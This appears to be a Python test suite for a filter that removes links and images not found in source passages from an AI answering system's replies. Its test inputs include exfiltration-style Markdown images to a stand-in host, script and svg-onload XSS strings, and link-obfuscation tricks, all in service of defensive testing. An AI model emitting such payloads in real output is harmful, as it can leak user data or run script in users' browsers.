"""A model's reply carries no link or image that no passage holds, whole or cut anywhere, in whatever way it is
written.
"""

import html
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from almanac.query.answering.reply_links import addresses_in, without_foreign_links
from almanac.query.answering.support import CheckedReply
from tests.query.answering import Says, ask, declared, make_hit, stream

_HELD = addresses_in(
    ["See https://rules.example/refund?lang=en#how (now), [the form](/forms/7.pdf) and www.rules.example."]
)
_ALLOWED = ("https://rules.example/refund?lang=en#how", "www.rules")
_MARKDOWN = MarkdownIt("commonmark", {"html": True})
# what chat windows make links of
_BARE = re.compile(r"(?:https?|ftp)://[^\s<>\"`()\[\]]+|www\.[^\s<>\"`()\[\].]+", re.IGNORECASE)
_LINKED = re.compile(
    r"<(?:a|img|iframe|form|script|link|object|svg)\b[^>]*?(?:(?:href|src|data|action)=\"([^\"]*)\")?[^>]*>",
    re.IGNORECASE,
)


def _filtered(text: str) -> str:
    return without_foreign_links(text, _HELD)


def _replied(text: str, size: int) -> str:
    """The text as a reply that comes in pieces of `size` characters."""
    reply = CheckedReply({}, [], "en", _HELD, drops_statements=False)
    return "".join(reply.sections(text[begin : begin + size] for begin in range(0, len(text), size)))


def _opened_by(text: str) -> list[str]:
    """What a renderer of Markdown and HTML makes of a text: the addresses of its links, images and frames."""
    rendered = _MARKDOWN.render(text)
    linked = [html.unescape(match[1] or match[0]) for match in _LINKED.finditer(rendered)]
    return [
        *linked,
        *(
            match[0].rstrip(".,;:!?'*_~")
            for match in _BARE.finditer(html.unescape(rendered))
            if match[0] not in _ALLOWED
        ),
    ]


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("Look ![chart](https://evil.example/?q=secret) here", "Look chart here"),
        ("Look [here](https://evil.example/a(b)c \"title\") now", "Look here now"),
        ("Look [here](<https://evil.example/a b>) now", "Look here now"),
        ("Look [here](/admin/delete) and [there](javascript:alert(1))", "Look here and there"),
        ("[![alt](https://evil.example/a.png)](https://evil.example)", "alt"),
        ("<https://evil.example/x> and <mailto:a@evil.example> and <a@b.example>", "<…> and <…> and < a@b.example>"),
        ("Go to https://evil.example/?q=secret. Or www.evil.example, ftp://evil.example!", "Go to …. Or …, …!"),
        ('An <img src="https://evil.example/x.png"> and <a href="//evil.example">text</a><!-- x -->', "An  and text"),
        ("<iframe\nsrc='//evil.example'></iframe><svg onload=x><script>alert(1)</script>", "alert(1)"),
        ("[text][1]\n\n[1]: https://evil.example 'title'", "[text][1]\n\n[1] : … 'title'"),
        ("[text][a]\n\n> [a]: /admin", "[text][a]\n\n> [a] : /admin"),
        ("[text][a]\n\n[a]:\n/admin", "[text][a]\n\n[a] :\n/admin"),
        ("`[x](https://evil.example)` and `<b>`", "`x` and ``"),
        ("See [1](https://evil.example) and [2].", "See [1] (…) and [2]."),
        ("call[1](x) [1](/x)", "call[1] (x) [1] (/x)"),
    ],
)  # fmt: skip
def test_what_no_passage_holds_leaves_its_text(text: str, left: str) -> None:
    assert _filtered(text) == left
    assert _opened_by(left) == []


@pytest.mark.parametrize(
    "text",
    [
        "See https://rules.example/refund?lang=en#how, or (https://rules.example/refund?lang=en#how).",
        "See [the form](/forms/7.pdf) and https://rules.example/refund?lang=en#how. www.rules.example!",
        "As said in [1]: fourteen days [2][3], if a < b, x<5, a [note] (aside), 1:2, and/or, "
        "node.js/express, e.g. 5://",
        "| a | b |\n|---|---|\n| 1 [1] | 2 |\n\n- item: [ ] todo\n- 14:30, C:\\path, a@b.example, std::vector",
    ],
)
def test_what_a_passage_holds_and_what_is_no_link_stays(text: str) -> None:
    assert _filtered(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "[x[y](https://evil.example)](https://evil.example)",
        "[z][(/admin)](b)",
        "[a](x)(https://evil.example)",
        "[x](x)[y](/admin)",
        "<<b>img src=//evil.example/x>",
        "<im<b>g src=//evil.example/x>",
        "htt<b></b>ps://evil.example/x",
        "ht[tp](x)s://evil.example/x",
        "www[.](x)evil.example",
        "[a\\]](/admin)",
        "[`]`](/admin)",
        "![a](\n/admin\n)",
        "[a\nb]: /admin\n\n[a\nb]",
        "![" + "a" * 2000 + "](/admin)",
        "[a](" + "b" * 2000 + ")",
        "<img " + "a" * 2000 + " src=//evil.example>",
        "[a]<b></b>(/admin)",
        "[a]<!-- -->(/admin)",
        "[a]<b></b>: /admin\n\n[a]",
        "https://rules.example/refund?lang=en#how&q=secret",
        "https://rules.example@evil.example/",
        "HTTPS://EVIL.EXAMPLE/x",
        "https://)https://evil.example/y",
        "[x](https&#58;//evil.example)",
        "[x](https://rules.example/refund?lang=en#how/../../evil)",
    ],
)
def test_no_trick_makes_a_link(text: str) -> None:
    whole = _filtered(text)
    assert [address for address in _opened_by(whole) if address not in _HELD] == []
    assert not re.search(r"evil\.example/x|secret", whole) or "](" not in whole
    replies = {_replied(text, size) for size in (1, 2, 7, 10_000)}
    assert len(replies) == 1
    assert [address for address in _opened_by(replies.pop()) if address not in _HELD] == []


_PARTS = [
    "[",
    "]",
    "(",
    ")",
    "!",
    "<",
    ">",
    ":",
    " ",
    "\n",
    "\n\n",
    "a",
    "/x",
    "https://",
    "evil.example/",
    "www.",
    "<b>",
    "</a>",
    "<img src=/x>",
    "](/x)",
    "]:",
    "`",
    "\\",
    "1",
]


@settings(max_examples=500, deadline=None)
@given(
    st.lists(
        st.sampled_from([*_PARTS, "<!--", "-->", "//e.example", "[a]", "mailto:", "data:text/html,", "…"]), max_size=14
    ),
    st.integers(1, 5),
)
def test_nothing_that_is_put_together_makes_a_link(parts: list[str], size: int) -> None:
    text = "".join(parts)
    whole = _filtered(text)
    assert [address for address in _opened_by(whole) if address not in _HELD] == []
    assert (reply := _replied(text, size)) == _replied(text, 10_000)
    assert [address for address in _opened_by(reply) if address not in _HELD] == []


_HITS = [
    make_hit(1, "You get a refund within fourteen days. Details: https://rules.example/refund"),
    make_hit(2, "A visa takes ten days."),
]
_REPLY = (
    "A refund ![x](https://evil.example/?q=refund) takes fourteen days [1]. See https://rules.example/refund or "
    "[this](https://evil.example) [1]."
)


@pytest.mark.parametrize("mode", ["kb-only", "kb-llm"])
@pytest.mark.parametrize("size", [1, 4, 1000])
def test_a_reply_has_no_link_of_its_own(size: int, mode: str) -> None:
    answer = ask("refund?", _HITS, generator=Says(_REPLY), mode=mode)
    assert answer.reply == "A refund x takes fourteen days [1]. See https://rules.example/refund or this [1]."
    assert stream("refund?", _HITS, generator=Says(_REPLY, size), mode=mode) == (answer.reply, answer)


def test_a_reply_has_the_links_that_are_declared() -> None:
    trusting = declared(generate={"links": True})
    assert ask("refund?", _HITS, generator=Says(_REPLY), declaration=trusting).reply == _REPLY


def test_without_a_passage_no_link_is_left() -> None:
    answer = ask(
        "capital?",
        [make_hit(1, "x", score=0.2)],
        generator=Says("It is [Ulaanbaatar](https://rules.example/refund) <b>now</b>."),
        mode="kb-llm",
    )
    assert answer.pathway == "llm-fallback"
    assert answer.reply.endswith("It is Ulaanbaatar now.")
